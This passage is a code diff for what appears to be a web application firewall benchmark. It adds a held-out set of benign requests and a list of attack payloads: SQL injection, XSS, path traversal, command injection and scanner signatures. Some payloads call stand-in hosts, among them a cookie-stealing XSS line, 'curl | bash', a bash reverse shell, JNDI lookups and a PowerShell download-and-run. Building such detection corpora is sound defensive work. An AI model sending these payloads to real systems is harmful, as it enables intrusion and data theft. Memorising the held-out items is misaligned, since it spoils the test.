@@ -1665,6 +1665,24 @@ def _deliver(cat: str, how: str, p: str, note: str) -> CorpusRequest:
         name = {"ua": "User-Agent", "referer": "Referer"}.get(how, how.partition(":")[2])
         h[name] = p
         return CorpusRequest(cat, "GET", "/", "", h, None, note)
+    if how == "headers":  # several headers, one "Name: value" a line
+        for line in p.splitlines():
+            name, _, value = line.partition(": ")
+            h[name] = value
+        return CorpusRequest(cat, "POST", "/", "", h, b"0\r\n\r\n", note)
+    if how == "multipart":
+        boundary = "----WebKitFormBoundaryHeldOut4x"
+        body = (
+            f'--{boundary}\r\nContent-Disposition: form-data; name="comment"\r\n\r\n{p}\r\n'
+            f"--{boundary}--\r\n"
+        ).encode()
+        ctype = f"multipart/form-data; boundary={boundary}"
+        h = {**h, "Content-Type": ctype, "Content-Length": str(len(body))}
+        return CorpusRequest(cat, "POST", "/upload", "", h, body, note)
+    if how == "xml":
+        body = f'<?xml version="1.0"?>{p}'.encode()  # the document after the declaration
+        h = {**h, "Content-Type": "application/xml", "Content-Length": str(len(body))}
+        return CorpusRequest(cat, "POST", "/api/orders", "", h, body, note)
     if how == "path":
         path, _, q = p.partition("?")
         return CorpusRequest(cat, "GET", path, q, h, None, note)
@@ -2143,11 +2161,659 @@ def heldout3_benign() -> list[CorpusRequest]:
         HELDOUT3_BENIGN_REFERERS,
         HELDOUT3_BENIGN_UAS,
     )
+    return out + _requests("held-out-3", HELDOUT3_BENIGN_REQUESTS)
+
+
+def _requests(
+    label: str, items: tuple[tuple[str, str, str, dict[str, str], bytes | None], ...]
+) -> list[CorpusRequest]:
+    """Benign requests given whole (method, path, query, extra headers, body), browser headers
+    underneath; `label` names the set in each request's note."""
+    out: list[CorpusRequest] = []
     uas = BROWSER_UAS
-    for i, (method, path, q, extra, body) in enumerate(HELDOUT3_BENIGN_REQUESTS):
+    for i, (method, path, q, extra, body) in enumerate(items):
         h = {**_headers(ua=uas[i % len(uas)]), **extra}
         if body is not None:
             h["Content-Length"] = str(len(body))
-        note = f"held-out-3 request: {method} {path} {extra}"
+        note = f"{label} request: {method} {path} {extra}"
         out.append(CorpusRequest("benign", method, path, q, h, body, note))
     return out
+
+
+# -- held out, fourth set: written on 2026-11-27 BEFORE the third detection round ---------------
+# Written from public attack-pattern knowledge and from what real sites receive, without running
+# the rules on it; committed before any rule change. `benchmarks/waf_eval.py` prints its totals
+# only unless asked (`--show-heldout4`), which is for the end of the round.
+
+HELDOUT4_BENIGN_TEXT: tuple[str, ...] = (
+    # developer forum: SQL posted as code
+    "SELECT COUNT(*) FROM orders GROUP BY customer_id HAVING COUNT(*) > 5",
+    "how do I write SELECT name, email FROM users WHERE created_at > NOW() - INTERVAL 7 DAY",
+    "UPDATE products SET price = price * 1.1 WHERE category = 'books';",
+    "INSERT INTO logs (level, msg) VALUES ('info', 'started')",
+    "why is my DELETE FROM sessions WHERE expires < now() so slow",
+    "postgres: CREATE INDEX CONCURRENTLY on a big table",
+    "sqlite 'database is locked' error with python",
+    "ORA-00933: SQL command not properly ended",
+    "EXPLAIN ANALYZE shows a seq scan on orders even with an index",
+    "mysql: ERROR 1064 (42000): You have an error in your SQL syntax near ''' at line 1",
+    "COALESCE(NULL, 'n/a') vs IFNULL",
+    "ALTER TABLE users ADD COLUMN last_login timestamptz;",
+    # HTML and JavaScript in posts
+    '<div class="container"> not centering with flexbox',
+    '<link rel="preload" as="font" crossorigin> warning in chrome',
+    '<input type="email" required> validation message language',
+    "how to escape </script> inside a JSON blob in an HTML page",
+    "onload event for <img> fires before the image is visible?",
+    "Vue v-on:click vs @click",
+    "$(document).ready(function() { ... }) is deprecated?",
+    "<p>Hello <b>world</b></p> renders as plain text in my email",
+    "document.cookie is empty in Safari with SameSite=None",
+    "what is the difference between innerHTML and textContent",
+    # shells and system talk
+    "`git log --oneline | head -20` shows only merges",
+    "```bash\nsudo systemctl restart nginx\n```\ndidn't pick up the new config",
+    "run `cat ~/.ssh/id_ed25519.pub` and paste the output into GitHub",
+    "what's in /etc/nginx/sites-enabled by default",
+    "docker exec -it web sh -c 'ls /app'",
+    "kubectl get pods -n kube-system | grep dns",
+    "python: os.system vs subprocess.call",
+    "npm ERR! code ELIFECYCLE when running build",
+    "PowerShell: Get-Process | Where-Object {$_.CPU -gt 100}",
+    "Windows path C:\\Program Files (x86)\\Steam\\steamapps",
+    "log4j 2.17 upgrade: do I still need -Dlog4j2.formatMsgNoLookups=true",
+    "jinja: {% for item in items %}{{ item.name }}{% endfor %}",
+    "regex to match an IPv4 address: ^(\\d{1,3}\\.){3}\\d{1,3}$",
+    "C++ templates: std::vector<std::pair<int, int>>",
+    'rust: fn main() { println!("{}", 1 + 1); }',
+    'java: System.out.println("hello"); not printing in IntelliJ',
+    "php: is echo htmlspecialchars($_GET['q']); enough?",
+    "../ vs ./ in import paths in TypeScript",
+    "what does || true do at the end of a bash line",
+    "is `rm -rf /` really that dangerous inside a container",
+    "wget -qO- https://get.docker.com | sh -- is that safe?",
+    "exit code 127 command not found in cron",
+    "ssh -i ~/.ssh/key.pem ubuntu@ec2 host key verification failed",
+    "tail -f /var/log/nginx/error.log shows upstream timed out",
+    # shop, support and everyday text
+    'Levi\'s 501® Original Fit Jeans – 32" x 34"',
+    "Nike Air Max 90 (White/Black) — size 10½",
+    "2-pack USB-C to USB-C cable 6ft / 1.8m",
+    "Dr. Martens 1460 'Smooth' boots",
+    "«Le Petit Prince» édition illustrée",
+    "日本語 キーボード 配列",
+    "кофемолка ручная",
+    "مكينة قهوة منزلية",
+    "한국어 책 추천",
+    "Crème brûlée set (4 × ramekins)",
+    "100% cotton t-shirt; wash at 30°C",
+    "buy 2 get 1 free & free shipping over £50",
+    "Is this compatible w/ iPhone 15 Pro? (asking for my mom)",
+    "emoji review 😍😍 love it!!! 10/10",
+    "Section 3(a)(ii) of the agreement; see also §4",
+    "5 < x < 10 where x is the number of guests",
+    "dimensions: 20 x 30 x 40 cm (L x W x H)",
+    "me & my dog's 'favourite' toy",
+    "my password has a ' and a \" in it and login fails",
+    "Username: o'connor -- the password reset link doesn't work",
+    "the site says 'Error 403 Forbidden' when I upload my CV.pdf",
+    "promo code SAVE-20%OFF doesn't apply",
+    "I typed <3 in my review and it vanished",
+    "price shows as NaN undefined in the cart",
+    "should I order 1 or 2 units?",
+    "is union membership required for this job?",
+    "Drop-down menu doesn't work on Safari",
+    "from 9am to 5pm, Mon-Fri (except bank holidays)",
+    "A+ seller!!! fast & friendly :-)",
+    "question: does the 'select' model have a sleep timer?",
+    "1/2 price sale -- ends 31/12",
+    "size chart: S=36, M=38, L=40",
+)
+"""Free text, each sent once: as a search, a forum post (form) or a JSON comment, in turn."""
+
+HELDOUT4_BENIGN_QUERIES: tuple[str, ...] = (
+    "q=select+dress&sort=price_asc&page=2",
+    "v=2&tid=G-ABC123&gtm=45je4&_p=123456&cid=123.456&ul=en-gb&sr=1920x1080&_s=1&sid=1700000000"
+    "&sct=3&seg=1&dl=https%3A%2F%2Fshop.example.com%2F&dt=Shop%20%7C%20Home&en=page_view",
+    "%24filter=name%20eq%20%27O%27%27Brien%27%20and%20age%20gt%2030&%24top=10&%24skip=20",
+    "query=%7B+user%28id%3A+%224%22%29+%7B+name+%7D+%7D",
+    "redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback&response_type=code&client_id=abc"
+    "&scope=openid%20profile%20email&state=xyz&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuG"
+    "JSstw-cM&code_challenge_method=S256",
+    "s=how+to+use+%3Cdiv%3E+tags",
+    "q=%22drop+table%22+meaning",
+    "x-algolia-agent=Algolia%20for%20JavaScript%20(4.14.2)%3B%20Browser&x-algolia-api-key=abc123"
+    "&x-algolia-application-id=XYZ",
+    "callback=jQuery36008123_1700000000000&_=1700000000001",
+    "fields=id,name,email&access_token=EAABsbCS1iHgBAKZC",
+    "date_from=2024-01-01&date_to=2024-12-31&tz=Europe%2FLondon",
+    "price_min=10&price_max=100&brand[]=nike&brand[]=adidas",
+    "where=%7B%22status%22%3A%22active%22%7D&order=-updatedAt",
+    "q=c%27est+la+vie",
+    "search=50%25+off+%26+free+delivery",
+    "path=%2Fdocs%2Fgetting-started%2Finstall.md",
+    "file=report-2024-Q1.pdf&download=1",
+    "url=https%3A%2F%2Fwww.example.org%2Farticle%3Fid%3D5&title=Read+this",
+    "email=sam%2Btest%40example.com",
+    "utm_term=sql+injection+course&utm_source=google&utm_medium=cpc",
+)
+"""Whole query strings: searches, analytics, OData, GraphQL GET, OAuth, Algolia, JSONP, filters."""
+
+HELDOUT4_BENIGN_PATHS: tuple[str, ...] = (
+    "/docs/sql/select-statement",
+    "/docs/reference/union-types",
+    "/blog/2023/11/the-etc-directory-explained",
+    "/products/drop-leaf-table-oak",
+    "/api/v1/users/me/orders/1234/items",
+    "/static/media/logo.8f1e2d.svg",
+    "/robots.txt",
+    "/favicon.ico",
+    "/.well-known/security.txt",
+    "/apple-touch-icon-precomposed.png",
+    "/wp-content/uploads/2024/02/cover-1024x576.jpg",
+    "/cdn-cgi/image/width=400,quality=75/images/hero.jpg",
+    "/_next/static/chunks/pages/_app-1a2b3c.js",
+    "/p/caf%C3%A9-cr%C3%A8me",
+    "/search/%E6%97%A5%E6%9C%AC",
+    "/authors/o'brien",
+    "/files/annual%20report%202024.pdf",
+    "/manifest.webmanifest",
+    "/amp/news/2024/election-results",
+    "/admin-guide/install",
+)
+
+HELDOUT4_BENIGN_JSON: tuple[object, ...] = (
+    {
+        "title": "Slow query",
+        "body": "EXPLAIN ANALYZE SELECT * FROM orders WHERE customer_id = 42 "
+        "ORDER BY created_at DESC LIMIT 10;",
+    },
+    {
+        "events": [
+            {
+                "name": "page_view",
+                "params": {
+                    "page_location": "https://shop.example.com/?q=a%26b",
+                    "page_title": "Shop & Co | Home",
+                    "engagement_time_msec": 1200,
+                },
+            }
+        ],
+        "client_id": "123.456",
+    },
+    {
+        "exception": {
+            "values": [
+                {
+                    "type": "TypeError",
+                    "value": "Cannot read properties of undefined (reading 'map')",
+                    "stacktrace": {
+                        "frames": [
+                            {"filename": "webpack:///./src/App.js", "function": "render"},
+                        ]
+                    },
+                }
+            ]
+        },
+    },
+    {
+        "csp-report": {
+            "document-uri": "https://shop.example.com/",
+            "violated-directive": "script-src-elem",
+            "blocked-uri": "inline",
+            "script-sample": "window.dataLayer = window.dataLayer || [];",
+        }
+    },
+    {
+        "ref": "refs/heads/main",
+        "commits": [
+            {"message": "fix: escape ' in search query (#42)", "modified": ["src/db/query.sql"]}
+        ],
+    },
+    {
+        "body_markdown": "## Steps\n1. Run `make test`\n2. See `SELECT 1` fail with "
+        '`ERROR: relation "x" does not exist`'
+    },
+    {
+        "html": '<p>Hello <strong>world</strong></p><p><a href="https://example.com" '
+        'target="_blank">link</a></p>'
+    },
+    {"html": '<p><img src="https://cdn.example.com/u/42.png" alt="screenshot"></p>'},
+    {"line1": "Flat 3, 12 O'Connell St.", "city": "Dún Laoghaire", "postcode": "A96 X2Y3"},
+    {"search": {"query": "red shoes", "filters": {"size": ["9", "10"], "price": {"max": 120}}}},
+    {
+        "query": "mutation AddToCart($id: ID!, $qty: Int!) { addToCart(productId: $id, "
+        "quantity: $qty) { cart { id } } }",
+        "variables": {"id": "gid://shopify/Product/1", "qty": 1},
+    },
+    {"command": "deploy", "args": ["--env", "staging", "--force"]},
+    {"shell": "/bin/bash", "home": "/home/sam", "uid": 1000},
+    {"code": "import os\nprint(os.listdir('.'))", "language": "python"},
+    {"note": "Meeting @ 10:00 -- bring laptop & charger; room 2.14"},
+    {"emoji": "🎉🎉", "text": "Congrats!! <3"},
+    {"email": "sam@example.com", "password": "Tr0ub4dor&3'--x"},
+    {"description": "Solid oak table; seats 4-6. Drop leaf, 120 x 80 cm."},
+    {"filter": "status eq 'active' and created gt 2024-01-01"},
+    {"screen": "1920x1080", "tz": "Europe/Berlin", "lang": "de-DE", "dnt": None},
+)
+
+HELDOUT4_BENIGN_COOKIES: tuple[str, ...] = (
+    "_ga=GA1.1.123456789.1700000000; _ga_ABC123=GS1.1.1700000000.1.1.1700000100.0.0.0",
+    "_hjSessionUser_123=eyJpZCI6ImFiYyIsImNyZWF0ZWQiOjE3MDAwMDAwMDB9; _hjSession_123=eyJpZCI6ImRlZiJ9",
+    "intercom-session-abc=VmFsdWU%3D--abc123; intercom-id-abc=1234-5678",
+    "__stripe_mid=abc-123-def; __stripe_sid=ghi-456",
+    "ajs_anonymous_id=%22a1b2c3d4-e5f6%22; ajs_user_id=%2242%22",
+    "wordpress_logged_in_abc=sam%7C1700000000%7Cxyz%7Chash; wp-settings-1=libraryContent%3Dbrowse",
+    "PHPSESSID=k3j4h5g6f7d8s9a0; lang=en",
+    "XSRF-TOKEN=eyJpdiI6IkFCQyIsInZhbHVlIjoiREVGIn0%3D; laravel_session=eyJpdiI6",
+    "csrftoken=AbCdEf123; sessionid=xyz789; django_language=fr",
+    "__cf_bm=abc.def-1700000000-1.0.1.1-ghi; _cfuvid=jkl-1700000000",
+    "cart=%7B%22items%22%3A%5B%7B%22id%22%3A42%2C%22qty%22%3A2%7D%5D%7D",
+    "last_search=select%20comfort%20mattress; viewed=1%2C2%2C3",
+    "AWSALB=abc/def+ghi==; AWSALBCORS=abc/def+ghi==",
+)
+
+HELDOUT4_BENIGN_REFERERS: tuple[str, ...] = (
+    "https://www.bing.com/search?q=union+select+furniture&form=QBLH",
+    "https://duckduckgo.com/?q=how+to+drop+a+table+in+postgres&ia=web",
+    "https://github.com/org/repo/issues/42#issuecomment-123",
+    "https://news.ycombinator.com/item?id=40000000",
+    "https://t.co/abc123XYZ",
+    "https://l.facebook.com/l.php?u=https%3A%2F%2Fshop.example.com%2F&h=AT0abc",
+    "android-app://com.google.android.gm/",
+    "https://www.reddit.com/r/webdev/comments/abc/what_does_etc_passwd_contain/",
+    "https://docs.example.com/search?q=%3Cscript%3E+tag+attributes",
+    "https://mail.google.com/",
+)
+
+HELDOUT4_BENIGN_UAS: tuple[str, ...] = (
+    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
+    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
+    "Twitterbot/1.0",
+    "WhatsApp/2.23.20.0",
+    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
+    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
+    "curl/8.5.0",
+    "Wget/1.21.4",
+    "Go-http-client/2.0",
+    "Apache-HttpClient/4.5.14 (Java/17.0.9)",
+    "Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A.230901.001)",
+    "MyShopApp/4.12.1 (iPhone; iOS 17.4.1; Scale/3.00)",
+    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/124.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "SamsungBrowser/4.0 Chrome/76.0.3809.146 TV Safari/537.36",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/124.0.0.0 Safari/537.36 OPR/109.0.0.0",
+    "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)",
+    "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 3 subscribers)",
+    "Mozilla/5.0 (compatible; Applebot/0.1; +http://www.apple.com/go/applebot)",
+)
+"""Link unfurlers, search crawlers, command-line and library clients, apps, TVs, old browsers."""
+
+HELDOUT4_BENIGN_REQUESTS: tuple[tuple[str, str, str, dict[str, str], bytes | None], ...] = (
+    # (method, path, query, extra headers, body): what browsers, CDNs, apps and webhooks send
+    (
+        "POST",
+        "/g/collect",
+        "v=2&tid=G-ABC123",
+        {"Content-Type": "text/plain;charset=UTF-8"},
+        b'{"events":[{"en":"scroll","ep":{"percent_scrolled":90}}]}',
+    ),
+    (
+        "GET",
+        "/",
+        "",
+        {
+            "sec-ch-ua-mobile": "?0",
+            "sec-ch-ua-platform": '"Windows"',
+            "Sec-Fetch-Dest": "document",
+            "Sec-Fetch-Site": "none",
+            "Sec-Fetch-User": "?1",
+            "Upgrade-Insecure-Requests": "1",
+            "DNT": "1",
+            "Priority": "u=0, i",
+        },
+        None,
+    ),
+    (
+        "GET",
+        "/products/42",
+        "",
+        {
+            "CF-Connecting-IP": "203.0.113.7",
+            "CF-IPCountry": "GB",
+            "CF-Ray": "8a1b2c3d4e5f6789-LHR",
+            "CDN-Loop": "cloudflare",
+            "X-Forwarded-Proto": "https",
+            "Via": "1.1 varnish, 1.1 abc123.cloudfront.net (CloudFront)",
+        },
+        None,
+    ),
+    (
+        "GET",
+        "/api/orders",
+        "",
+        {
+            "X-Amzn-Trace-Id": "Root=1-65a1b2c3-abcdef0123456789abcdef01",
+            "traceparent": "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
+            "tracestate": "congo=t61rcWkgMzE",
+        },
+        None,
+    ),
+    (
+        "GET",
+        "/",
+        "",
+        {
+            "Forwarded": "for=192.0.2.60;proto=http;by=203.0.113.43",
+            "X-Forwarded-For": "2001:db8::1, 198.51.100.7",
+        },
+        None,
+    ),
+    (
+        "POST",
+        "/wp-admin/admin-ajax.php",
+        "",
+        {
+            "X-Requested-With": "XMLHttpRequest",
+            "Content-Type": "application/x-www-form-urlencoded; charset=UTF-8",
+        },
+        b"action=add_to_cart&product_id=42&quantity=1",
+    ),
+    (
+        "POST",
+        "/upload",
+        "",
+        {"Content-Type": "multipart/form-data; boundary=----formdata-abc123"},
+        b"------formdata-abc123\r\n"
+        b'Content-Disposition: form-data; name="file"; filename="price list (2024).csv"\r\n'
+        b"Content-Type: text/csv\r\n\r\n"
+        b'name,price\r\n"Widget, large",9.99\r\n"O\'Brien\'s mug",4.50\r\n'
+        b"\r\n------formdata-abc123--\r\n",
+    ),
+    (
+        "PUT",
+        "/api/files/photo.jpg",
+        "",
+        {"Content-Type": "image/jpeg"},
+        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xdb\x00C\x00"
+        b"\x08\x06\x06\x07\x06\x05\x08\x07\x07\x07\t\t\x08\n\x0c\x14\r\x0c\x0b\x0b\x0c\x19\x12"
+        b"'\"<>;--/*%00\xff\xd9",
+    ),
+    (
+        "GET",
+        "/images/hero.avif",
+        "",
+        {
+            "Accept": "image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8",
+            "Accept-Language": "zh-CN,zh;q=0.9,en;q=0.8",
+            "Range": "bytes=500-999",
+            "If-Range": '"abc123"',
+        },
+        None,
+    ),
+    (
+        "POST",
+        "/api/profile",
+        "",
+        {"Content-Type": "application/json; charset=utf-8"},
+        '{"name":"Zoë Ørsted","city":"Zürich","bio":"Ich mag Käse & Brot"}'.encode(),
+    ),
+    ("GET", "/api/search", "q=mugs", {"Authorization": "Basic c2FtOnBhc3M="}, None),
+    (
+        "OPTIONS",
+        "/api/cart",
+        "",
+        {
+            "Origin": "https://www.example.com",
+            "Access-Control-Request-Method": "POST",
+            "Access-Control-Request-Headers": "content-type,x-csrf-token,authorization",
+        },
+        None,
+    ),
+    (
+        "POST",
+        "/webhooks/stripe",
+        "",
+        {"Content-Type": "application/json", "Stripe-Signature": "t=1700000000,v1=abc123,v0=d4"},
+        b'{"type":"checkout.session.completed","data":{"object":{"id":"cs_test_a1"}}}',
+    ),
+    (
+        "POST",
+        "/api/graphql",
+        "",
+        {"Content-Type": "application/graphql"},
+        b"{ products(first: 10) { edges { node { title } } } }",
+    ),
+    (
+        "POST",
+        "/soap/pricing",
+        "",
+        {"Content-Type": "text/xml; charset=utf-8", "SOAPAction": '"urn:GetPrice"'},
+        b'<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/'
+        b'envelope/"><soap:Body><GetPrice><Item>Apples</Item></GetPrice></soap:Body>'
+        b"</soap:Envelope>",
+    ),
+    (
+        "GET",
+        "/next-page",
+        "",
+        {
+            "Origin": "https://shop.example.com",
+            "Referer": "https://shop.example.com/",
+            "Sec-Purpose": "prefetch;prerender",
+            "Accept-Encoding": "gzip, deflate, br, zstd",
+        },
+        None,
+    ),
+    ("HEAD", "/", "", {"X-Forwarded-Host": "shop.example.com"}, None),
+    (
+        "DELETE",
+        "/api/v1/sessions",
+        "",
+        {"Content-Type": "application/json"},
+        b'{"all_devices": true, "reason": "lost phone"}',
+    ),
+)
+
+HELDOUT4_ATTACKS: tuple[tuple[str, str, str], ...] = (
+    # (category, delivery, payload); deliveries as in `_deliver`.
+    ("sqli", "query", "1' ORDER BY 3--+"),
+    ("sqli", "query", "1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)--+"),
+    ("sqli", "double", "' UNION SELECT username||':'||password FROM users--"),
+    ("sqli", "form", "admin'--"),
+    ("sqli", "json", "1' AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))-- -"),
+    ("sqli", "cookie", "' OR 'x'='x"),
+    ("sqli", "raw", "1%27%20WAITFOR%20DELAY%20%270%3A0%3A5%27--"),
+    (
+        "sqli",
+        "query",
+        "1;DECLARE @q VARCHAR(99);SET @q='\\\\x.example\\a';EXEC master.dbo.xp_dirtree @q;--",
+    ),
+    (
+        "sqli",
+        "query",
+        "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),0x3a,FLOOR(RAND(0)*2))x "
+        "FROM information_schema.tables GROUP BY x)a)",
+    ),
+    ("sqli", "header:X-Forwarded-For", "1.2.3.4' OR 1=1-- -"),
+    ("sqli", "referer", "https://x.example/' AND 1=(SELECT 1 FROM PG_SLEEP(5))--"),
+    ("sqli", "query", "1 uNiOn/*!50000SeLeCt*/ 1,2,3"),
+    ("sqli", "raw", "-1%20union%0aselect%201,@@version,3"),
+    ("sqli", "rawjson", '{"id": "1 OR 1=1"}'),
+    ("sqli", "json", "1 AND ASCII(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1))>64"),
+    (
+        "sqli",
+        "query",
+        "admin' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055'",
+    ),
+    ("sqli", "form", "1' AND updatexml(1,concat(0x7e,version()),1)#"),
+    ("sqli", "query", "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)"),
+    ("sqli", "rawquery", "id=1&id=2' OR '1'='1"),
+    ("sqli", "multipart", "1' OR '1'='1' -- "),
+    ("sqli", "rawjson", '{"username": "admin", "password": {"$regex": "^a"}}'),
+    ("sqli", "rawquery", "user=admin&pass[$regex]=.*"),
+    ("sqli", "header:X-Real-IP", "127.0.0.1'; DROP TABLE sessions;--"),
+    ("xss", "query", "<svg/onload=alert`1`>"),
+    ("xss", "double", "<details open ontoggle=alert(1)>"),
+    ("xss", "form", "<img src=1 onerror=\"fetch('//x.example/?c='+document.cookie)\">"),
+    ("xss", "json", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
+    ("xss", "raw", "%3Cscript%3Eeval(atob('YWxlcnQoMSk='))%3C%2Fscript%3E"),
+    ("xss", "query", '"><img src=x onerror=alert(String.fromCharCode(88,83,83))>'),
+    ("xss", "rawquery", "next=javascript:alert(document.domain)"),
+    ("xss", "cookie", '"><script>alert(1)</script>'),
+    ("xss", "ua", "<script>alert(1)</script>"),
+    ("xss", "header:X-Forwarded-For", "<img src=x onerror=alert(1)>"),
+    ("xss", "query", "<body onpageshow=alert(1)>"),
+    ("xss", "form", "<input onfocus=alert(1) autofocus>"),
+    ("xss", "json", '<video><source onerror="alert(1)">'),
+    ("xss", "query", "<ScRiPt>prompt(1)</sCrIpT>"),
+    (
+        "xss",
+        "query",
+        '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
+    ),
+    ("xss", "query", "\\';alert(1);//"),
+    ("xss", "query", '<object data="javascript:alert(1)">'),
+    ("xss", "form", "<style>@import 'http://x.example/x.css';</style>"),
+    ("xss", "query", "{{constructor.constructor('alert(1)')()}}"),
+    ("xss", "rawquery", "callback=alert(document.cookie)//"),
+    ("xss", "query", '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>X</text></a>'),
+    ("xss", "query", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
+    ("xss", "multipart", "<svg onload=alert(1)>"),
+    ("xss", "xml", "<order><note><![CDATA[<script>alert(1)</script>]]></note></order>"),
+    ("lfi", "query", "../../../../../../etc/shadow"),
+    ("lfi", "raw", "..%2f..%2f..%2f..%2fetc%2fpasswd%00"),
+    ("lfi", "raw", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
+    ("lfi", "raw", "..%255c..%255c..%255cboot.ini"),
+    ("lfi", "query", "....//....//....//etc/passwd"),
+    ("lfi", "query", "php://filter/convert.base64-encode/resource=index.php"),
+    ("lfi", "query", "php://input"),
+    ("lfi", "query", "/etc/passwd"),
+    ("lfi", "query", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
+    ("lfi", "path", "/static/..%2f..%2f..%2fetc/passwd"),
+    ("lfi", "path", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"),
+    ("lfi", "path", "/.git/config"),
+    ("lfi", "path", "/config/database.yml"),
+    ("lfi", "path", "/wp-config.php.bak"),
+    ("lfi", "json", "../../../../var/log/apache2/access.log"),
+    ("lfi", "form", "/proc/self/environ"),
+    ("lfi", "cookie", "../../../../../etc/passwd"),
+    ("lfi", "query", "file:///etc/passwd"),
+    ("lfi", "query", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
+    ("lfi", "path", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
+    ("lfi", "path", "/.DS_Store"),
+    ("lfi", "multipart", "../../../../../../etc/passwd"),
+    ("rce", "query", ";id"),
+    ("rce", "query", "|cat /etc/passwd"),
+    ("rce", "raw", "%0aid%0a"),
+    ("rce", "double", "$(whoami)"),
+    ("rce", "form", "127.0.0.1 && curl http://203.0.113.9/s | bash"),
+    ("rce", "json", "`nslookup x.oast.example`"),
+    ("rce", "query", "; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
+    ("rce", "query", ";{cat,/etc/passwd}"),
+    ("rce", "query", ";cat${IFS}/etc/passwd"),
+    ("rce", "query", 'a;w"h"o"a"m"i'),
+    ("rce", "query", ";/???/??t /???/p??s??"),
+    ("rce", "query", "; python -c 'import socket,subprocess,os;s=socket.socket()'"),
+    ("rce", "query", "; perl -e 'exec \"/bin/sh\";'"),
+    ("rce", "ua", "${jndi:ldap://203.0.113.9:1389/Exploit}"),
+    ("rce", "header:X-Forwarded-For", "${jndi:dns://x.oast.example/a}"),
+    ("rce", "json", "${${lower:j}${lower:n}${lower:d}i:ldap://x.example/a}"),
+    ("rce", "query", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}"),
+    ("rce", "query", "{{''.__class__.__mro__[1].__subclasses__()}}"),
+    ("rce", "form", "*{T(java.lang.Runtime).getRuntime().exec('whoami')}"),
+    ("rce", "query", "<?php system($_GET['c']); ?>"),
+    ("rce", "form", "<?=`$_GET[0]`?>"),
+    ("rce", "query", "${@java.lang.Runtime@getRuntime().exec('id')}"),
+    (
+        "rce",
+        "header:Content-Type",
+        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
+        "(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}",
+    ),
+    ("rce", "json", "require('child_process').exec('id')"),
+    ("rce", "query", "__import__('os').system('id')"),
+    (
+        "rce",
+        "query",
+        "| powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://x.example/a')\"",
+    ),
+    ("rce", "query", "&& type C:\\Windows\\win.ini"),
+    (
+        "rce",
+        "body",
+        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di",
+    ),
+    ("rce", "query", "; sleep 10 #"),
+    ("rce", "query", "$(echo${IFS}aWQ=|base64${IFS}-d|sh)"),
+    (
+        "rce",
+        "path",
+        "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
+        "&vars[0]=system&vars[1][]=id",
+    ),
+    ("rce", "xml", '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>'),
+    ("scanner", "ua", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
+    ("scanner", "ua", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"),
+    ("scanner", "ua", "Wfuzz/3.1.0"),
+    ("scanner", "header:X-Scanner", "Netsparker"),
+    ("scanner", "ua", "Arachni/v1.5.1"),
+    ("scanner", "ua", "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.4)"),
+    (
+        "scanner",
+        "ua",
+        "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
+    ),
+    ("scanner", "ua", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
+    ("scanner", "ua", "commix/v3.8 (https://commixproject.com)"),
+    ("scanner", "ua", "httpx - Open-source project (github.com/projectdiscovery/httpx)"),
+    ("scanner", "ua", "l9explore/1.2.2"),
+    ("scanner", "path", "/phpmyadmin/index.php"),
+    ("scanner", "path", "/.vscode/sftp.json"),
+    ("scanner", "path", "/actuator/heapdump"),
+    ("scanner", "path", "/cgi-bin/luci/;stok=/locale"),
